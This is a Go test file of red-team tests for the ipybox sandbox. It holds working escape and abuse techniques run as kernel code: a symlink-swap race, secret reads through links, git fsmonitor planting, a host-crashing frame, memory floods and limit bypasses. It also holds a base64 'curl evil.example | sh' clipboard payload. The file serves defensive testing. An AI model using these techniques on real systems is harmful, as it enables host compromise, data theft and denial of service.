package ipybox_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/metrics"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/testenv"
)

// TestRedteamMcptoolsSwapRace: kernel code swaps the workspace's mcptools
// folder with a symbolic link, atomically and over and over
// (renameat2 RENAME_EXCHANGE), while the application registers a server.
// pygen.Write checks mcptools with Lstat and then opens it with
// os.OpenRoot, which follows a link: between the two, the link can take
// the folder's place, and the host then creates, renames and removes
// files in the directory the link names, outside the workspace.
func TestRedteamMcptoolsSwapRace(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	victim := filepath.Join(outside, "go", "victim.txt")
	os.MkdirAll(filepath.Dir(victim), 0o755)
	if err := os.WriteFile(victim, []byte("host data"), 0o644); err != nil {
		t.Fatal(err)
	}
	ex := startSandboxed(t, &ipybox.Options{Approver: ipybox.ApproveAll})
	cfg := testmcpStdio(t)
	register(t, ex, "go", cfg)
	run(t, ex, `import os, ctypes, threading
libc = ctypes.CDLL(None, use_errno=True)
os.symlink(`+pyStr(outside)+`, "mcptools-link")
stop = False
def flip():
    a, b = b"mcptools", b"mcptools-link"
    while not stop:
        libc.renameat2(-100, a, -100, b, 2)  # RENAME_EXCHANGE
threading.Thread(target=flip, daemon=True).start()`)
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	for i := 0; i < 40; i++ {
		ex.RegisterMCPServer(ctx, "go", cfg) // most fail ("not a directory"); one that wins the race writes outside
		ents, _ := os.ReadDir(outside)
		_, verr := os.Stat(victim)
		if len(ents) != 1 || verr != nil {
			names := []string{}
			for _, e := range ents {
				names = append(names, e.Name())
			}
			t.Fatalf("attempt %d: the host wrote through the planted link, outside the workspace: %s now holds %v; the host file %s: %v",
				i, outside, names, victim, verr)
		}
	}
	run(t, ex, "stop = True")
}

// TestRedteamNamedSecretFileGaps: a workspace file that a server config
// names is masked at a kernel start only when the name is the regular file
// itself (secretFiles keeps Lstat'ed regular files). Kernel code in the
// sandbox still reads the secret, after a reset, when the config names
// (b) a symbolic link to the file (neither the link nor its target is
// masked) or (c) a directory of credentials (CLOUDSDK_CONFIG, GNUPGHOME,
// --credentials-dir).
//
// (Not tested, because no mask can fix it: a server registered while the
// kernel runs, as register_mcp_server does, names a file that the kernel
// could read until then and can still read until the next reset.)
func TestRedteamNamedSecretFileGaps(t *testing.T) {
	t.Parallel()
	secret := "tok-" + strings.Repeat("9", 12)
	ws := t.TempDir()
	for name, content := range map[string]string{
		"keys/real.json":        `{"private_key": "` + secret + `"}`,
		"gcloud/credentials.db": secret,
	} {
		p := filepath.Join(ws, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("keys/real.json", filepath.Join(ws, "creds.json")); err != nil {
		t.Fatal(err)
	}
	ex := startSandboxed(t, &ipybox.Options{WorkDir: ws, Approver: ipybox.ApproveAll})
	read := func(label, path string) {
		t.Helper()
		res := run(t, ex, "try:\n    print('"+secret+"' in open("+pyStr(path)+").read())\nexcept OSError as e:\n    print('DENIED', e)")
		if strings.Contains(res.Text, "True") {
			t.Errorf("%s: kernel code read the secret in %s", label, path)
		}
	}
	cfg := testmcpStdio(t)
	cfg.Env = map[string]string{"GOOGLE_APPLICATION_CREDENTIALS": "creds.json", "CLOUDSDK_CONFIG": "gcloud"}
	register(t, ex, "linked", cfg)
	if err := ex.Reset(context.Background()); err != nil {
		t.Fatal(err)
	}
	read("(b) named through a link", "creds.json")
	read("(b) the link's target", "keys/real.json")
	read("(c) a named directory", "gcloud/credentials.db")
}

// TestRedteamGitBareRepoPlant: the sandbox write-protects .git (and the
// other names host tools act on), but git does not need a directory named
// .git: a directory that itself holds HEAD, objects/ and refs/ is a git
// directory, and git uses it (with its config) when it runs there. Kernel
// code plants one at the workspace root (not a repository) and one in
// src/, a
// directory the user made before the session. Any git command the user
// (or a shell prompt, an editor, an agent) runs there afterwards runs
// core.fsmonitor from the planted config, on the host.
func TestRedteamGitBareRepoPlant(t *testing.T) {
	t.Parallel()
	testenv.NeedsTool(t, "git")
	ws := t.TempDir()
	if err := os.Mkdir(filepath.Join(ws, "src"), 0o755); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(t.TempDir(), "ran-on-host-")
	ex := startSandboxed(t, &ipybox.Options{WorkDir: ws})
	run(t, ex, `import os
def plant(d, worktree):
    os.makedirs(os.path.join(d, "objects"), exist_ok=True)
    os.makedirs(os.path.join(d, "refs"), exist_ok=True)
    open(os.path.join(d, "HEAD"), "w").write("ref: refs/heads/main\n")
    open(os.path.join(d, "config"), "w").write("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = " + worktree + "\n\tfsmonitor = \"touch `+marker+`" + os.path.basename(worktree) + "; false\"\n")
for d, wt in ((".", os.getcwd()), ("src", os.path.join(os.getcwd(), "src"))):
    try:
        plant(d, wt)
    except PermissionError:
        pass`)
	if err := ex.Close(); err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{ws, filepath.Join(ws, "src")} {
		cmd := exec.Command("git", "status", "--short")
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+t.TempDir())
		cmd.CombinedOutput()
		if _, err := os.Stat(marker + filepath.Base(dir)); err == nil {
			t.Errorf("git status in %s ran a command that kernel code chose, on the host", dir)
		}
	}
}

// TestRedteamOversizedFrameCrashesHost: kernel code writes one ZMTP frame
// header straight onto its end of the iopub connection, announcing a
// 2^62-byte frame. go-zeromq's reader does make([]byte, size) with the
// announced size, and the Go runtime panics in a reader goroutine: the
// whole host process dies (under ipybox mcp, with every other session).
// The attack runs in a child process, so that the panic ends the child,
// not the test binary.
func TestRedteamOversizedFrameCrashesHost(t *testing.T) {
	t.Parallel()
	if os.Getenv("IPYBOX_REDTEAM_CHILD") == "frame" {
		ex := startSandboxed(t, nil)
		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
		defer cancel()
		res, err := ex.Execute(ctx, `import os, socket, stat, time
hdr = bytes([0x02]) + (1 << 62).to_bytes(8, "big")  # a long frame, 2^62 bytes
for f in os.listdir("/proc/self/fd"):
    try:
        if not stat.S_ISSOCK(os.fstat(int(f)).st_mode):
            continue
        s = socket.socket(fileno=os.dup(int(f)))
        try:
            # Accepted connections (bound to a k-N path, no peer name):
            # the host is at the other end.
            if s.family == socket.AF_UNIX and s.type == socket.SOCK_STREAM and "k-" in str(s.getsockname()) and not s.getpeername():
                os.write(int(f), hdr)
        finally:
            s.close()
    except OSError:
        pass
time.sleep(2)`, nil)
		fmt.Println("HOST SURVIVED", res, err)
		return
	}
	testenv.NeedsTool(t, "bwrap")
	cmd := exec.Command(os.Args[0], "-test.run=^TestRedteamOversizedFrameCrashesHost$", "-test.v")
	cmd.Env = append(os.Environ(), "IPYBOX_REDTEAM_CHILD=frame")
	out, err := cmd.CombinedOutput()
	if !strings.Contains(string(out), "HOST SURVIVED") {
		t.Fatalf("kernel code crashed the host process (%v):\n%s", err, lastLines(string(out), 12))
	}
}

// TestRedteamIopubFloodHostMemory: kernel code sends ready-made, correctly
// signed iopub messages straight from its PUB socket, as fast as it can
// (1.3 GB of stream output in a few tens of ms). The host's queues
// between the socket reader, the decoder and the caller were unbounded, so
// the host buffered what it had not handled yet: its memory grew with what
// the kernel sent (5.3 GB for 3.2 GB sent). Now each channel and each call
// has a byte budget, past which the host stops reading. It measures a
// test process of its own (testenv.Alone), while the other tests run.
func TestRedteamIopubFloodHostMemory(t *testing.T) {
	if testenv.Alone(t) {
		return
	}
	ex := startSandboxed(t, nil)
	base := rssBytes()
	var peak atomic.Int64
	stop := make(chan struct{})
	go func() {
		for {
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
				if r := rssBytes() - base; r > peak.Load() {
					peak.Store(r)
				}
			}
		}
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 240*time.Second)
	defer cancel()
	for _, err := range ex.Stream(ctx, `import time
k = get_ipython().kernel
s = k.session
msg = s.msg("stream", {"name": "stdout", "text": "x" * (8 << 20)}, parent=k.get_parent("shell"))
frames = s.serialize(msg, ident=[b"stream.stdout"])
done = []
def flood():
    for i in range(160):
        k.iopub_thread.socket.send_multipart(frames, copy=False)
    done.append(1)
k.iopub_thread.schedule(flood)
while not done:
    time.sleep(0.05)`, nil) {
		if err != nil {
			t.Fatal(err)
		}
	}
	close(stop)
	const limit = 1 << 30
	t.Logf("host memory grew by %d MiB at most while kernel code sent 160 messages of 8 MiB", peak.Load()>>20)
	if p := peak.Load(); p > limit {
		t.Errorf("host memory grew by %d MiB while kernel code flooded iopub; want it bounded (< %d MiB)", p>>20, limit>>20)
	}
}

// rssBytes returns this process's resident set size; under the race
// detector, whose shadow memory grows with every allocation, the Go heap
// in use instead.
func rssBytes() int64 {
	if testenv.Race {
		// runtime/metrics, unlike ReadMemStats, does not stop the world.
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}, {Name: "/memory/classes/heap/unused:bytes"}}
		metrics.Read(s)
		return int64(s[0].Value.Uint64() + s[1].Value.Uint64())
	}
	b, _ := os.ReadFile("/proc/self/statm")
	f := strings.Fields(string(b))
	if len(f) < 2 {
		return 0
	}
	n, _ := strconv.ParseInt(f[1], 10, 64)
	return n * int64(os.Getpagesize())
}

func lastLines(s string, n int) string {
	l := strings.Split(strings.TrimRight(s, "\n"), "\n")
	if len(l) > n {
		l = l[len(l)-n:]
	}
	return strings.Join(l, "\n")
}

// TestRedteamSandboxMemoryLimitBypass: the sandbox's memory limit is
// RLIMIT_DATA per process, but memory a sandboxed process fills through
// files is not data: the private /tmp, /root and /dev are tmpfs mounts of
// half the host's RAM each, and memfd_create has no bound at all. Kernel
// code under a 256 MiB limit keeps 1 GiB of host memory that way (and could
// take all of it: the three tmpfs mounts alone may hold 1.5x the host's
// RAM), which survives even the kernel's death while the sandbox lives.
func TestRedteamSandboxMemoryLimitBypass(t *testing.T) {
	t.Parallel()
	cfg := ipybox.DefaultSandbox()
	cfg.Limits.Memory = 256 << 20
	ex := startSandboxed(t, &ipybox.Options{Sandbox: cfg})
	res := run(t, ex, `import os
chunk = b"x" * (1 << 20)
held = {}
def fill(label, write):
    n = 0
    try:
        for _ in range(512):
            write(chunk)
            n += 1
    except OSError:
        pass
    held[label] = n
with open("/tmp/fill", "wb") as f:
    fill("tmpfs", f.write)
try:
    fd = os.memfd_create("fill")
    fill("memfd", lambda b: os.write(fd, b))
except OSError as e:
    held["memfd"] = 0
    print("memfd refused:", e)
try:
    import mmap
    m = mmap.mmap(-1, 512 << 20)  # shared and anonymous
    for i in range(0, 512 << 20, 4096):
        m[i] = 1
    held["shared-anon"] = 512
except OSError as e:
    held["shared-anon"] = 0
    print("shared anonymous mapping refused:", e)
print("total", sum(held.values()), held)`)
	t.Logf("%s", res.Text)
	var mib int
	if _, after, ok := strings.Cut(res.Text, "total "); ok {
		fmt.Sscan(after, &mib)
	}
	if mib > 256 {
		t.Errorf("kernel code under a 256 MiB memory limit holds %d MiB of host memory in tmpfs and memfd: %s", mib, res.Text)
	}
}

// TestRedteamRenameParentOfProtectedGit: below the workspace root an
// existing .git is a read-only mount point, which kernel code cannot
// rename or replace; but it can rename the directory that holds it, and
// put a new directory, with a .git of its own, at the old name. The user's
// next git command in that project runs the planted config's
// core.fsmonitor, on the host.
func TestRedteamRenameParentOfProtectedGit(t *testing.T) {
	t.Parallel()
	testenv.NeedsTool(t, "git")
	ws := t.TempDir()
	proj := filepath.Join(ws, "proj")
	if out, err := exec.Command("git", "init", "-q", proj).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v %s", err, out)
	}
	marker := filepath.Join(t.TempDir(), "ran-on-host")
	ex := startSandboxed(t, &ipybox.Options{WorkDir: ws})
	res := run(t, ex, `import os
try:
    open("proj/.git/config", "a")
    print("WRITABLE")
except OSError:
    print("protected")
try:
    os.rename("proj", "proj-old")
except OSError as e:
    print("rename refused", e)
try:
    for d in ("objects", "refs"):
        os.makedirs("proj/.git/" + d, exist_ok=True)
    open("proj/.git/HEAD", "w").write("ref: refs/heads/main\n")
    open("proj/.git/config", "w").write("[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"touch `+marker+`; false\"\n")
    print("PLANTED")
except OSError as e:
    print("plant refused", e)`)
	if !strings.Contains(res.Text, "protected") {
		t.Fatalf("proj/.git is not even protected: %q", res.Text)
	}
	if strings.Contains(res.Text, "PLANTED") {
		t.Errorf("a new proj/.git was planted: %q", res.Text)
	}
	ex.Close()
	cmd := exec.Command("git", "status", "--short")
	cmd.Dir = proj
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+t.TempDir())
	cmd.CombinedOutput()
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("git status in %s ran a command that kernel code chose, on the host", proj)
	}
}

// TestRedteamExecTerminalEscapes: ipybox exec writes what kernel code
// prints to the user's terminal byte for byte. The sandbox gives the
// kernel no terminal of its own (a new session, no /dev/tty), so this is
// its only way to one, and through it it sends control sequences: OSC 52
// sets the user's clipboard (a command to paste later), and cursor moves
// and line erases printed by a background thread while --approval prompt
// waits rewrite the prompt above them (the prompt itself is escaped; the
// output around it is not). The exec runs on a pseudo-terminal, where
// escaping must apply.
func TestRedteamExecTerminalEscapes(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	bin := testenv.Binary(t)
	ws := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, py, "-c", `import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        b = os.read(fd, 65536)
    except OSError:
        break
    if not b:
        break
    out += b
os.waitpid(pid, 0)
sys.stdout.buffer.write(out)`, bin, "exec", "--sandbox", "--python", py, "--workspace", ws,
		"-c", `print("clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07board", "up\x1b[3A\x1b[2Kerased")`)
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if !strings.Contains(string(out), "clip") {
		t.Fatalf("the cell did not run: %q", out)
	}
	for _, raw := range []string{"\x1b]52", "\x1b[3A", "\x1b[2K"} {
		if strings.Contains(string(out), raw) {
			t.Errorf("kernel output reached the terminal with the raw control sequence %q: %q", raw, out)
		}
	}
}

// TestAttackStalePoolMasks: a warm pool kernel started before a server
// that names a secret file was registered (by another Executor of the
// workspace, which saves it to servers.json) is not handed out: the one
// Get returns hides the file, as any start now would.
func TestAttackStalePoolMasks(t *testing.T) {
	t.Parallel()
	testenv.NeedsTool(t, "bwrap")
	secret := "tok-" + strings.Repeat("7", 12)
	ws := t.TempDir()
	if err := os.WriteFile(filepath.Join(ws, "sa-key.json"), []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	pool := ipybox.NewPool(1, &ipybox.Options{WorkDir: ws, Sandbox: ipybox.DefaultSandbox()})
	t.Cleanup(func() { pool.Close() })
	for deadline := time.Now().Add(60 * time.Second); pool.Ready() < 1; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("the pool did not fill within 60s")
		}
	}
	other := startSandboxed(t, &ipybox.Options{WorkDir: ws})
	cfg := testmcpStdio(t)
	cfg.Env = map[string]string{"GOOGLE_APPLICATION_CREDENTIALS": "sa-key.json"}
	register(t, other, "creds", cfg)

	ex, err := pool.Get(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	defer ex.Close()
	res := run(t, ex, "try:\n    print('"+secret+"' in open('sa-key.json').read())\nexcept OSError as e:\n    print('DENIED', type(e).__name__)")
	if strings.Contains(res.Text, "True") {
		t.Errorf("the pooled kernel read a secret that a server registered after its start names: %q", res.Text)
	}
}
